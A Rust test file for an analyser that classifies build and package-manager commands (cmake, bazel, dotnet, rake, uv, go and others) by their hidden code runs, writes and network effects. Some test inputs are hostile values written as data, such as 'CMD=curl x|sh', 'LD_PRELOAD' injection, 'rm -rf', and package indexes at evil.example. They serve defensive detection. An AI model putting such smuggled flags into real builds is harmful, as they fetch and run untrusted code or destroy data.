//! Table tests of the build-system and ecosystem runner grammars (`builders`,
//! `ecosystems`, and the resolution commands of `runners`): argv → effects, the trees and
//! files they name, or an error.
#![allow(clippy::unwrap_used)]

use super::super::runner_test_support::{
    call, not_a_runner, outside, runs_hidden, unknown, writes,
};
use super::super::runners::{Family, Manager, RunnerCall};
use crate::analysis::effects::{Change, Code, Effect};

/// Routine forms: no effect of their own.
fn clean(words: &[&str]) -> RunnerCall {
    let c = call(words);
    assert!(c.effects.is_empty(), "{words:?}: {:?}", c.effects);
    c
}

#[test]
fn cmake_configure_names_its_trees_and_judges_cache_entries() {
    let c = clean(&["cmake", "-B", "build"]);
    assert_eq!(c.family, Family::CMake);
    assert_eq!(
        (c.source_dir.as_deref(), c.build_dir.as_deref()),
        (Some("."), Some("build"))
    );
    let c = clean(&[
        "cmake",
        "-S",
        ".",
        "-Bbuild",
        "-G",
        "Ninja",
        "-DCMAKE_BUILD_TYPE=Release",
        "-D",
        "BUILD_TESTING:BOOL=ON",
        "-DCMAKE_INSTALL_PREFIX=/opt/x",
        "-Wno-dev",
        "-LAH",
        "--fresh",
    ]);
    assert_eq!(c.build_dir.as_deref(), Some("build"));
    // `cmake ..`: a source tree (or an existing build tree) as the operand.
    assert_eq!(clean(&["cmake", ".."]).source_dir.as_deref(), Some(".."));
    // Compilers, launchers, module paths and other CMAKE_ variables run what they name.
    for d in [
        "-DCMAKE_C_COMPILER=/tmp/cc",
        "-DCMAKE_CXX_COMPILER_LAUNCHER=ccache",
        "-DCMAKE_PROJECT_INCLUDE=x.cmake",
        "-DCMAKE_MODULE_PATH=cmake",
        "-DFOO=/tmp/evil",
        "-DTOOL=/tmp/evil;-c",
        "-DCMAKE_BUILD_TYPE=a;b",
    ] {
        assert!(runs_hidden(&call(&["cmake", "-B", "b", d])), "{d}");
    }
    // Definition files named on the command line.
    assert_eq!(
        call(&[
            "cmake",
            "--toolchain",
            "tc.cmake",
            "-C",
            "init.cmake",
            "-B",
            "b"
        ])
        .defined_by,
        ["tc.cmake", "init.cmake"]
    );
    assert_eq!(
        call(&["cmake", "-DCMAKE_TOOLCHAIN_FILE=/tmp/tc.cmake", "-B", "b"]).defined_by,
        ["/tmp/tc.cmake"]
    );
    assert_eq!(
        writes(&call(&["cmake", "-B", "b", "--graphviz=deps.dot"])),
        ["deps.dot"]
    );
    for bad in [
        &["cmake", "-B", "b", "--project-file", "x.txt"][..],
        &["cmake", "-Wevil", "-B", "b"],
        &["cmake", "-E", "rm", "-rf", "x"],
        &["cmake", "--open", "build"],
        &["cmake", "--workflow", "--preset", "x"],
        &["cmake", "-B", "b", "src", "other"],
    ] {
        outside(bad);
    }
}

#[test]
fn cmake_build_install_and_script_modes() {
    let c = clean(&[
        "cmake", "--build", "build", "-j", "8", "--target", "app", "tests", "--config", "Release",
        "-v",
    ]);
    assert_eq!(c.build_dir.as_deref(), Some("build"));
    clean(&["cmake", "--build", "build", "-j8"]);
    clean(&["cmake", "--build", "build", "--parallel"]);
    clean(&["cmake", "--build", "build", "--", "-j4", "-k", "0"]);
    assert!(unknown(&call(&[
        "cmake",
        "--build",
        "build",
        "--",
        "-f",
        "/tmp/evil.mk"
    ])));
    assert_eq!(
        clean(&["cmake", "--build", "--preset", "dev"]).build_dir,
        None
    );
    outside(&["cmake", "--build"]);
    // Install runs the generated install rules, which reach outside the workspace.
    let c = call(&["cmake", "--install", "build", "--prefix", "/usr/local"]);
    assert!(runs_hidden(&c));
    // A script: a definition file whose agent writes count.
    let c = clean(&["cmake", "-DX=1", "-P", "cmake/gen.cmake"]);
    assert_eq!(
        (c.defined_by.clone(), c.scripts.clone()),
        (
            vec!["cmake/gen.cmake".to_string()],
            vec!["cmake/gen.cmake".to_string()]
        )
    );
    assert!(runs_hidden(&call(&["cmake", "-DX=a b", "-P", "x.cmake"])));
}

#[test]
fn ctest_and_ninja() {
    let c = clean(&[
        "ctest",
        "--test-dir",
        "build",
        "--output-on-failure",
        "-j4",
        "-R",
        "unit",
        "-LE",
        "slow",
        "-VV",
    ]);
    assert_eq!(
        (c.family, c.build_dir.as_deref()),
        (Family::CMake, Some("build"))
    );
    assert_eq!(clean(&["ctest", "-j", "8"]).build_dir.as_deref(), Some("."));
    assert_eq!(
        writes(&call(&["ctest", "--output-junit", "/tmp/j.xml"])),
        ["/tmp/j.xml"]
    );
    for bad in [
        &["ctest", "-S", "dash.cmake"][..],
        &["ctest", "-D", "Experimental"],
        &["ctest", "--build-and-test", "a", "b"],
    ] {
        outside(bad);
    }
    let c = clean(&["ninja", "-C", "build", "-j", "4", "app", "test"]);
    assert_eq!(
        (c.family, c.build_dir.as_deref()),
        (Family::Ninja, Some("build"))
    );
    assert!(c.does.contains("app, test"));
    assert_eq!(
        clean(&["ninja", "-f", "alt.ninja"]).defined_by,
        ["alt.ninja"]
    );
    assert!(clean(&["ninja", "-C", "b", "-t", "targets", "all"])
        .does
        .contains("targets"));
    clean(&["ninja", "-t", "compdb", "-x"]);
    for bad in [
        &["ninja", "-t", "clean"][..],
        &["ninja", "-t", "browse"],
        &["ninja", "-d", "list"],
        &["ninja", "-t", "commands", "-f", "x"],
    ] {
        outside(bad);
    }
}

#[test]
fn meson_setup_compile_and_test() {
    let c = clean(&[
        "meson",
        "setup",
        "build",
        "--buildtype=release",
        "-Db_sanitize=address",
        "-Dprefix=/usr",
        "-Dfeature=enabled",
    ]);
    assert_eq!(
        (c.build_dir.as_deref(), c.source_dir.as_deref()),
        (Some("build"), Some("."))
    );
    assert_eq!(
        call(&["meson", "setup", "b", "--native-file", "clang.ini"]).defined_by,
        ["clang.ini"]
    );
    for d in [
        "-Dc_args=-fplugin=x.so",
        "-Dcmake_prefix_path=/tmp",
        "-Dtool=/tmp/x",
    ] {
        assert!(runs_hidden(&call(&["meson", "setup", "b", d])), "{d}");
    }
    // --wipe empties the build tree first.
    assert!(call(&["meson", "setup", "--wipe", "b"])
        .effects
        .iter()
        .any(|e| matches!(e, Effect::Delete { path, .. } if path == "b")));
    clean(&["meson", "compile", "-C", "build", "-j", "4"]);
    let c = clean(&[
        "meson",
        "test",
        "-C",
        "build",
        "--print-errorlogs",
        "--suite",
        "unit",
    ]);
    assert_eq!(c.build_dir.as_deref(), Some("build"));
    assert!(runs_hidden(&call(&[
        "meson",
        "test",
        "--wrapper",
        "valgrind"
    ])));
    outside(&["meson", "test", "--gdb"]);
    outside(&["meson", "compile", "--ninja-args=-t clean"]);
    outside(&["meson", "configure", "-Dbuildtype=debug"]);
    not_a_runner(&["meson", "install"]);
    not_a_runner(&["meson", "subprojects", "download"]);
}

#[test]
fn bazel_commands_options_and_remote_services() {
    let c = clean(&[
        "bazel",
        "test",
        "//...",
        "--test_output=errors",
        "-c",
        "opt",
        "--config=ci",
        "--nocache_test_results",
        "--keep_going",
        "--",
        "-//slow/...",
    ]);
    assert_eq!(c.family, Family::Bazel);
    clean(&[
        "bazelisk",
        "build",
        "//src:app",
        "--jobs=8",
        "--define=MODE=fast",
    ]);
    clean(&["bazel", "query", "deps(//src:app)", "--output=label"]);
    clean(&["bazel", "run", "//tools:gen", "--", "--out", "x"]);
    clean(&["bazel", "--nohome_rc", "info", "output_base"]);
    // What the options are.
    assert_eq!(
        call(&["bazel", "--bazelrc=ci.bazelrc", "build", "//..."]).defined_by,
        ["ci.bazelrc"]
    );
    assert_eq!(
        call(&[
            "bazel",
            "build",
            "//...",
            "--override_repository=dep=/tmp/dep"
        ])
        .defined_by,
        ["/tmp/dep"]
    );
    assert_eq!(
        writes(&call(&["bazel", "--output_base=/tmp/ob", "build", "//..."])),
        ["/tmp/ob"]
    );
    assert!(runs_hidden(&call(&[
        "bazel",
        "build",
        "//...",
        "--action_env=PATH=/tmp/evil"
    ])));
    assert!(runs_hidden(&call(&[
        "bazel",
        "build",
        "//...",
        "--define=CMD=rm -rf x"
    ])));
    let c = call(&[
        "bazel",
        "test",
        "//...",
        "--remote_cache=grpc://cache.example.com",
    ]);
    assert!(c
        .effects
        .iter()
        .any(|e| matches!(e, Effect::Net { sends, .. } if !sends.is_empty())));
    assert!(unknown(&call(&["bazel", "run", "@other//:tool"])));
    for bad in [
        &["bazel", "build", "//...", "--copt=-fplugin=x.so"][..],
        &["bazel", "test", "//...", "--run_under=/tmp/x"],
        &[
            "bazel",
            "--host_jvm_args=-javaagent:x.jar",
            "build",
            "//...",
        ],
        &["bazel", "build", "//...", "--spawn_strategy=remote"],
    ] {
        outside(bad);
    }
    not_a_runner(&["bazel", "clean", "--expunge"]);
    not_a_runner(&["bazel", "mobile-install", "//app"]);
}

#[test]
fn dotnet_commands_properties_and_loggers() {
    let c = clean(&[
        "dotnet",
        "build",
        "src/App/App.csproj",
        "-c",
        "Release",
        "-p:TreatWarningsAsErrors=true",
        "--nologo",
        "-v:q",
    ]);
    assert_eq!(
        (c.family, c.dirs.clone(), c.defined_by.clone()),
        (
            Family::Dotnet,
            vec!["src/App".to_string()],
            vec!["src/App/App.csproj".to_string()]
        )
    );
    clean(&[
        "dotnet",
        "test",
        "--filter",
        "Category=Unit",
        "--logger",
        "trx;LogFileName=r.trx",
    ]);
    clean(&[
        "dotnet",
        "test",
        "--no-build",
        "-l:console;verbosity=detailed",
    ]);
    clean(&[
        "dotnet",
        "run",
        "--project",
        "src/App",
        "--",
        "--port",
        "80",
    ]);
    clean(&["dotnet", "restore", "--locked-mode"]);
    clean(&["dotnet", "--list-sdks"]);
    assert_eq!(
        call(&["dotnet", "test", "-s", "ci.runsettings"]).defined_by,
        ["ci.runsettings"]
    );
    assert_eq!(
        writes(&call(&["dotnet", "build", "-o", "/tmp/out"])),
        ["/tmp/out"]
    );
    assert!(unknown(&call(&[
        "dotnet",
        "build",
        "-p:PostBuildEvent=calc"
    ])));
    assert!(unknown(&call(&["dotnet", "build", "/p:CscToolPath=/tmp"])));
    assert!(unknown(&call(&[
        "dotnet",
        "test",
        "--logger",
        "html;LogFilePath=/tmp/x"
    ])));
    // The adapters' directory given inline is code from there, as `-a` is; another
    // inline runsetting is outside the grammar. MSBuild's import paths are code from
    // their value (names compared without case).
    let runs_file = |c: &RunnerCall, path: &str| {
        c.effects
            .iter()
            .any(|e| matches!(e, Effect::Run { code: Code::File { path: p } } if p == path))
    };
    let adapters = call(&[
        "dotnet",
        "test",
        "--",
        "RunConfiguration.TestAdaptersPaths=/tmp",
    ]);
    assert!(runs_file(&adapters, "/tmp") && !unknown(&adapters));
    assert!(unknown(&call(&[
        "dotnet",
        "test",
        "--",
        "RunConfiguration.MaxCpuCount=2"
    ])));
    for prop in [
        "-p:MSBuildExtensionsPath=/tmp/ext",
        "/p:DirectoryBuildPropsPath=/tmp/ext",
        "-p:custombeforemicrosoftcommontargets=/tmp/ext",
    ] {
        let c = call(&["dotnet", "build", prop]);
        assert!(runs_file(&c, "/tmp/ext") && !unknown(&c), "{prop}");
    }
    assert!(runs_hidden(&call(&[
        "dotnet",
        "test",
        "-a",
        "/tmp/adapters"
    ])));
    assert!(runs_hidden(&call(&[
        "dotnet",
        "restore",
        "--source",
        "https://evil.example/v3"
    ])));
    assert!(runs_hidden(&call(&[
        "dotnet",
        "test",
        "-e",
        "LD_PRELOAD=/tmp/x.so"
    ])));
    for bad in [
        &["dotnet", "build", "@args.rsp"][..],
        &["dotnet", "build", "/t:Publish"],
        &["dotnet", "build", "-t:Clean"],
        &["dotnet", "run", "script.cs"],
        &["dotnet", "build", "--interactive"],
    ] {
        outside(bad);
    }
    not_a_runner(&["dotnet", "add", "package", "X"]);
    not_a_runner(&["dotnet", "new", "console"]);
}

#[test]
fn swift_build_test_run() {
    let c = clean(&[
        "swift",
        "build",
        "-c",
        "release",
        "--product",
        "app",
        "-j",
        "4",
    ]);
    assert_eq!(c.family, Family::Swift);
    clean(&[
        "swift",
        "test",
        "--filter",
        "AppTests",
        "--parallel",
        "--enable-code-coverage",
    ]);
    // The words after the executable are its arguments.
    clean(&["swift", "run", "app", "--port", "8080", "-Xswiftc"]);
    assert_eq!(
        call(&["swift", "build", "--package-path", "pkg"]).dirs,
        ["pkg"]
    );
    assert_eq!(
        writes(&call(&["swift", "build", "--scratch-path", "/tmp/s"])),
        ["/tmp/s"]
    );
    for bad in [
        &["swift", "build", "-Xswiftc", "-load-plugin-executable"][..],
        &["swift", "build", "--toolchain", "/tmp/tc"],
        &["swift", "test", "--disable-sandbox"],
        &["swift", "run", "--repl"],
    ] {
        outside(bad);
    }
    not_a_runner(&["swift", "package", "update"]);
    not_a_runner(&["swift", "script.swift"]);
}

#[test]
fn ruby_runners() {
    let c = clean(&["rake", "test", "-j", "4"]);
    assert_eq!((c.family, c.does.contains("`test`")), (Family::Ruby, true));
    // `-T PATTERN` lists: the pattern is not a task.
    assert!(clean(&["rake", "-T", "db"]).does.contains("lists"));
    assert_eq!(
        call(&["rake", "-f", "tasks.rb", "build"]).defined_by,
        ["tasks.rb"]
    );
    assert_eq!(call(&["rake", "-I", "lib", "test"]).include_dirs, ["lib"]);
    let c = clean(&["rake", "test", "TEST=test/a_test.rb", "TESTOPTS=-v"]);
    assert_eq!(c.test_paths, ["test/a_test.rb"]);
    for bad in [
        &["rake", "-e", "system('id')"][..],
        &["rake", "-r", "./evil"],
        &["rake", "-g", "x"],
        &["rake", "test", "CMD=curl x|sh"],
    ] {
        assert!(runs_hidden(&call(bad)), "{bad:?}");
    }
    let c = clean(&[
        "rspec",
        "spec/models",
        "--format",
        "documentation",
        "--seed",
        "42",
        "-p",
        "5",
    ]);
    assert_eq!(c.family, Family::Ruby);
    assert_eq!(call(&["rspec", "-O", "ci.rspec"]).defined_by, ["ci.rspec"]);
    assert_eq!(
        writes(&call(&["rspec", "-o", "/tmp/out.txt"])),
        ["/tmp/out.txt"]
    );
    assert!(runs_hidden(&call(&["rspec", "--require", "/tmp/evil.rb"])));
    outside(&["rspec", "--drb"]);
    outside(&["rspec", "--init"]);
    clean(&[
        "rails",
        "test",
        "test/models/user_test.rb:12",
        "-f",
        "--seed",
        "3",
    ]);
    clean(&["rails", "test:system"]);
    not_a_runner(&["rails", "db:drop"]);
    not_a_runner(&["rails", "new", "app"]);
    let b = call(&["bundle", "exec", "rspec", "spec"]);
    assert_eq!((b.wrapped, b.family), (Some(2), Family::Ruby));
    // A Gemfile named elsewhere is a definition file, judged by where it lies.
    let g = call(&["bundle", "exec", "--gemfile=/tmp/G", "rspec"]);
    assert_eq!(g.defined_by, ["/tmp/G"]);
    assert_eq!(g.wrapped, Some(3));
    let g = call(&[
        "bundle",
        "exec",
        "--gemfile",
        "gemfiles/rails7.gemfile",
        "rspec",
    ]);
    assert_eq!(g.defined_by, ["gemfiles/rails7.gemfile"]);
    assert_eq!(g.wrapped, Some(4));
    outside(&["bundle", "exec", "--gemfile"]);
    outside(&["bundle", "exec", "--gem", "rspec"]);
    not_a_runner(&["bundle", "install"]);
}

#[test]
fn php_runners() {
    let c = clean(&[
        "phpunit",
        "--filter",
        "UserTest",
        "--testdox",
        "--colors=always",
    ]);
    assert_eq!(c.family, Family::Php);
    clean(&[
        "./vendor/bin/phpunit",
        "tests/Unit",
        "-d",
        "memory_limit=-1",
    ]);
    assert_eq!(
        call(&[
            "phpunit",
            "-c",
            "phpunit.ci.xml",
            "--bootstrap",
            "tests/boot.php"
        ])
        .defined_by,
        ["phpunit.ci.xml", "tests/boot.php"]
    );
    assert!(unknown(&call(&[
        "phpunit",
        "-d",
        "auto_prepend_file=/tmp/x.php"
    ])));
    assert_eq!(
        call(&["phpunit", "--include-path", "/tmp/a:lib"]).include_dirs,
        ["/tmp/a", "lib"]
    );
    outside(&["phpunit", "--extensions", "Evil\\Ext"]);
    outside(&["phpunit", "--generate-configuration"]);
    let c = clean(&["php", "artisan", "test", "--parallel", "--filter", "Auth"]);
    assert_eq!(
        (c.scripts.clone(), c.tool),
        (vec!["artisan".to_string()], "php artisan")
    );
    outside(&["php", "artisan", "test", "--drop-databases"]);
    not_a_runner(&["php", "artisan", "migrate:fresh"]);
    not_a_runner(&["php", "-r", "echo 1;"]);
    let c = clean(&["composer", "test"]);
    assert_eq!(
        (c.script.clone(), c.implicit_script),
        (Some((Manager::Composer, "test".to_string())), true)
    );
    let c = clean(&["composer", "run-script", "lint", "--", "--fix"]);
    assert_eq!(
        (c.script.clone(), c.implicit_script),
        (Some((Manager::Composer, "lint".to_string())), false)
    );
    assert_eq!(call(&["composer", "-d", "app", "test"]).dirs, ["app"]);
    // `composer install` installs what composer.lock pins, as `npm ci` does.
    for words in [
        &["composer", "install"][..],
        &["composer", "i", "--no-dev", "-o", "--prefer-dist"],
        &[
            "composer",
            "install",
            "--no-interaction",
            "--no-progress",
            "-d",
            "app",
        ],
        &["composer", "--no-scripts", "install"],
    ] {
        let c = clean(words);
        assert!(c.lock_install, "{words:?}");
        assert_eq!(c.family, Family::Php, "{words:?}");
    }
    assert_eq!(call(&["composer", "install", "-d", "app"]).dirs, ["app"]);
    outside(&["composer", "install", "vendor/pkg"]);
    outside(&["composer", "install", "--frobnicate"]);
    outside(&["composer", "install", "--working-dir"]);
    not_a_runner(&["composer", "require", "x/y"]);
    not_a_runner(&["composer", "update"]);
}

#[test]
fn resolution_commands_follow_the_project() {
    // uv: lock, sync and tree lock the project the way `uv run` does.
    for words in [
        &["uv", "lock"][..],
        &["uv", "lock", "--check"],
        &["uv", "sync"],
        &["uv", "sync", "--frozen", "--no-dev"],
        &["uv", "sync", "--locked", "--all-extras"],
        &["uv", "tree", "--depth", "2"],
        &["uv", "tree", "--frozen", "--outdated"],
    ] {
        let c = clean(words);
        assert!(
            (c.family, c.lock_install) == (Family::Uv, true),
            "{words:?}"
        );
    }
    assert!(runs_hidden(&call(&[
        "uv",
        "lock",
        "--index-url",
        "https://evil.example/simple"
    ])));
    assert!(runs_hidden(&call(&[
        "uv",
        "sync",
        "--python",
        "/tmp/py/bin/python"
    ])));
    assert_eq!(
        call(&["uv", "lock", "--script", "x.py"]).defined_by,
        ["x.py"]
    );
    outside(&["uv", "sync", "-C", "key=value"]);
    outside(&["uv", "sync", "--no-build-isolation"]);
    // poetry show, lock and check.
    for words in [
        &["poetry", "show"][..],
        &["poetry", "show", "requests", "--tree"],
        &["poetry", "lock", "--regenerate"],
        &["poetry", "check", "--lock", "--strict"],
    ] {
        let c = clean(words);
        assert!(
            (c.family, c.lock_install) == (Family::Poetry, true),
            "{words:?}"
        );
    }
    assert_eq!(call(&["poetry", "-C", "svc", "show"]).dirs, ["svc"]);
    outside(&["poetry", "show", "--frob"]);
    not_a_runner(&["poetry", "add", "x"]);
    // go list, go mod tidy and download.
    clean(&["go", "list", "-m", "-json", "all"]);
    clean(&["go", "list", "-f", "{{.Dir}}", "./..."]);
    // A module query at a version asks the module proxy: a remote read, nothing changed.
    let c = call(&["go", "list", "-m", "-versions", "golang.org/x/tools@latest"]);
    assert!(
        matches!(
            c.effects.as_slice(),
            [Effect::Remote {
                change: Change::Read,
                ..
            }]
        ),
        "{:?}",
        c.effects
    );
    assert!(runs_hidden(&call(&[
        "go",
        "list",
        "-toolexec",
        "/tmp/x",
        "-export",
        "./..."
    ])));
    let t = clean(&["go", "mod", "tidy", "-e", "-go=1.22"]);
    assert!((t.family, t.lock_install) == (Family::Go, true));
    clean(&["go", "mod", "download", "-x"]);
    outside(&["go", "mod", "download", "golang.org/x/tools@latest"]);
    outside(&["go", "mod", "tidy", "./..."]);
    not_a_runner(&["go", "mod", "edit", "-replace", "a=b"]);
    // rustup's listings, under rust-toolchain.toml.
    for words in [
        &["rustup", "show"][..],
        &["rustup", "show", "active-toolchain"],
        &["rustup", "toolchain", "list", "-v"],
        &["rustup", "target", "list", "--installed"],
        &["rustup", "component", "list", "--installed"],
        &["rustup", "default"],
        &["rustup", "which", "cargo"],
    ] {
        assert_eq!(clean(words).family, Family::Rustup, "{words:?}");
    }
    outside(&["rustup", "default", "nightly"]);
    outside(&["rustup", "target", "list", "--toolchain", "nightly"]);
    outside(&["rustup", "toolchain", "list", "--installed"]);
    outside(&["rustup", "toolchain", "install", "nightly"]);
    not_a_runner(&["rustup", "update"]);
}
